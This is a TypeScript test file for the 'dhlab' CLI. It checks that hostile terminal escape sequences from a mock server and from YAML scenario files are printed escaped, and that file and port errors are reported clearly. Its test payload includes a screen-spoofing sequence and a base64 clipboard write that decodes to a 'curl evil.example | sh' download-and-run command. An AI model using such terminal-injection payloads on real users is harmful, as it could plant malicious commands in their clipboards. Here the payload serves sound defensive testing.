// Peer and file text in ERROR paths reaches the terminal only as visible
// escapes. Real `dhlab` processes against servers that answer hello with hostile frames, and
// scenario files that carry the same sequences in titles, names and failing expectations.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import net from 'node:net';
import path from 'node:path';
import { describe, it } from 'node:test';
import { run } from '../support/cli-run.ts';
import { PREKEY_REPLIES, startPrekeyHostileServer, TERMINAL_TAKEOVER } from './prekey-hostile-server.ts';

/** ESC, C1 controls, BEL and bidi controls: none may leave dhlab toward a terminal. */
const TERMINAL_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u; // eslint-disable-line no-control-regex

function collectRaw(running: ReturnType<typeof run>): () => string {
  const raw: Buffer[] = [];
  running.proc.stdout?.on('data', (chunk: Buffer) => raw.push(chunk));
  running.proc.stderr?.on('data', (chunk: Buffer) => raw.push(chunk));
  return () => Buffer.concat(raw).toString('utf8');
}

describe('error paths: a hostile server before keys exist', () => {
  for (const [what, reply] of Object.entries(PREKEY_REPLIES)) {
    it(`dhlab client shows ${what} escaped, and exits 1 although stdin stays open`, async () => {
      const server = await startPrekeyHostileServer(reply);
      try {
        const client = run([
          'client',
          '--name',
          'alice',
          '--port',
          String(server.port),
          '--known-servers',
          '/dev/null',
        ]);
        const printed = collectRaw(client);
        // stdin is never ended: the client must still exit after the fatal error.
        assert.equal(await client.exit, 1);
        assert.doesNotMatch(printed(), TERMINAL_CONTROL);
        assert.match(printed(), /\\x1b\]0;pwn/);
      } finally {
        await server.close();
      }
    });
  }

  it('dhlab client --json: the error event is terminal-safe JSON that parses to the same text', async () => {
    const server = await startPrekeyHostileServer(PREKEY_REPLIES['a plaintext error'] as never);
    try {
      const client = run([
        'client',
        '--name',
        'alice',
        '--port',
        String(server.port),
        '--known-servers',
        '/dev/null',
        '--json',
      ]);
      const printed = collectRaw(client);
      assert.equal(await client.exit, 1);
      assert.doesNotMatch(printed(), TERMINAL_CONTROL);
      const error = client.json().find((e) => e.type === 'error');
      assert.ok(String(error?.message).includes(TERMINAL_TAKEOVER), 'the JSON keeps the exact text');
    } finally {
      await server.close();
    }
  });
});

describe('error paths: a hostile scenario file', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dhlab-hostile-scenario-'));
  // YAML double quotes understand \e (ESC), \a (BEL) and \x9b (8-bit CSI).
  const takeover = '\\e]0;pwned\\a\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a\\e[2J\\e[H\\e[32mall good\\e[0m\\x9b31m';
  const scenario = (expectation: string) => `title: "lesson ${takeover}"
summary: "${takeover}"
seed: "1"
actors:
  server: { group: modp14 }
  clients: [alice, bob]
steps:
  - title: "step ${takeover}"
    narration: "narration ${takeover}"
    action: { connect: alice }
  - title: "bob ${takeover}"
    narration: "bob ${takeover}"
    action: { connect: bob }
  - title: "say ${takeover}"
    narration: "say ${takeover}"
    action:
      say: { from: alice, text: "hello" }
    expect:
${expectation}
`;

  it('run --headless: titles and narration print escaped', async () => {
    const file = path.join(dir, 'titles.yaml');
    fs.writeFileSync(file, scenario('      - receives: { who: bob, from: alice, text: "hello" }'));
    const running = run(['scenario', file, '--headless']);
    const printed = collectRaw(running);
    assert.equal(await running.exit, 0, printed());
    assert.doesNotMatch(printed(), TERMINAL_CONTROL);
    assert.match(printed(), /step \\x1b\]0;pwned\\x07/);
  });

  it('a failing expectation that quotes the file: ERR_EXPECTATION, escaped', async () => {
    const file = path.join(dir, 'expectation.yaml');
    fs.writeFileSync(file, scenario(`      - receives: { who: bob, from: alice, text: "${takeover}" }`));
    const running = run(['scenario', file, '--headless']);
    const printed = collectRaw(running);
    assert.equal(await running.exit, 1);
    assert.doesNotMatch(printed(), TERMINAL_CONTROL);
    assert.match(printed(), /ERR_EXPECTATION/);
  });

  it('a malformed field that quotes the file: ERR_SCENARIO, escaped', async () => {
    const file = path.join(dir, 'malformed.yaml');
    fs.writeFileSync(
      file,
      scenario('      - receives: { who: bob, from: alice, text: "x" }').replace(
        'clients: [alice, bob]',
        `clients: [alice, "b${takeover}"]`,
      ),
    );
    const running = run(['scenario', file, '--headless']);
    const printed = collectRaw(running);
    assert.equal(await running.exit, 1);
    assert.doesNotMatch(printed(), TERMINAL_CONTROL);
    assert.match(printed(), /ERR_SCENARIO/);
  });
});

describe('files and ports a command cannot use: a clear ERR_FILE, ERR_LISTEN or ERR_RESOLVE, no stack trace', () => {
  it('a host name that does not resolve is ERR_RESOLVE, for the server and the client', async () => {
    const server = run([
      'server',
      '--host',
      'no-such-host.invalid',
      '--port',
      '0',
      '--host-key',
      path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'dhlab-hk-')), 'key'),
    ]);
    assert.equal(await server.exit, 1);
    assert.match(
      server.stderr.join('\n'),
      /^dhlab: ERR_RESOLVE: cannot listen on no-such-host\.invalid:0: the host name "no-such-host\.invalid" does not resolve \(E[A-Z_]+\)$/,
    );
    const client = run(['client', '--json', '--name', 'a', '--host', 'no-such-host.invalid']);
    client.proc.stdin?.end();
    assert.equal(await client.exit, 1);
    assert.equal(client.json()[0]?.code, 'ERR_RESOLVE');
  });

  it('--export does not replace a file without --force, and prints the path last', async () => {
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'dhlab-export-')), 'handout.md');
    fs.writeFileSync(file, 'mine');
    const refused = run(['scenario', '01-handshake', '--export', file]);
    assert.equal(await refused.exit, 1);
    assert.match(
      refused.stderr.join('\n'),
      /ERR_FILE: cannot write .*handout\.md: it already exists; --force replaces it/,
    );
    assert.equal(fs.readFileSync(file, 'utf8'), 'mine');
    const forced = run(['scenario', '01-handshake', '--export', file, '--force']);
    assert.equal(await forced.exit, 0, forced.stderr.join('\n'));
    assert.equal(forced.stdout.at(-1), `handout written to ${file}`);
    assert.match(fs.readFileSync(file, 'utf8'), /^# /);
  });

  it('dhlab eve --listen on a port in use', async () => {
    const busy = net.createServer();
    await new Promise<void>((resolve) => busy.listen(0, '127.0.0.1', resolve));
    try {
      const eve = run([
        'eve',
        '--listen',
        `127.0.0.1:${(busy.address() as net.AddressInfo).port}`,
        '--forward',
        '127.0.0.1:1',
        '--json',
      ]);
      assert.equal(await eve.exit, 1);
      const text = eve.stderr.join('\n');
      assert.match(text, /dhlab: ERR_LISTEN: cannot listen on 127\.0\.0\.1:\d+: the address is already in use/);
      assert.doesNotMatch(text, /\n\s+at /, 'no stack trace');
    } finally {
      busy.close();
    }
  });

  it('scenario --export into a missing folder', async () => {
    const running = run([
      'scenario',
      '01-handshake',
      '--export',
      path.join(os.tmpdir(), 'no-such-dhlab-folder', 'h.md'),
    ]);
    assert.equal(await running.exit, 1);
    assert.match(running.stderr.join('\n'), /dhlab: ERR_FILE: cannot write .*h\.md: its folder does not exist/);
    assert.doesNotMatch(running.stderr.join('\n'), /\n\s+at /, 'no stack trace');
  });

  it('scenario --export to a folder named like a handout', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dhlab-export-'));
    fs.mkdirSync(path.join(dir, 'handout.md'));
    const running = run(['scenario', '01-handshake', '--export', path.join(dir, 'handout.md')]);
    assert.equal(await running.exit, 1);
    assert.match(running.stderr.join('\n'), /ERR_FILE: cannot write .*handout\.md: it is a folder; give a file name/);
  });
});
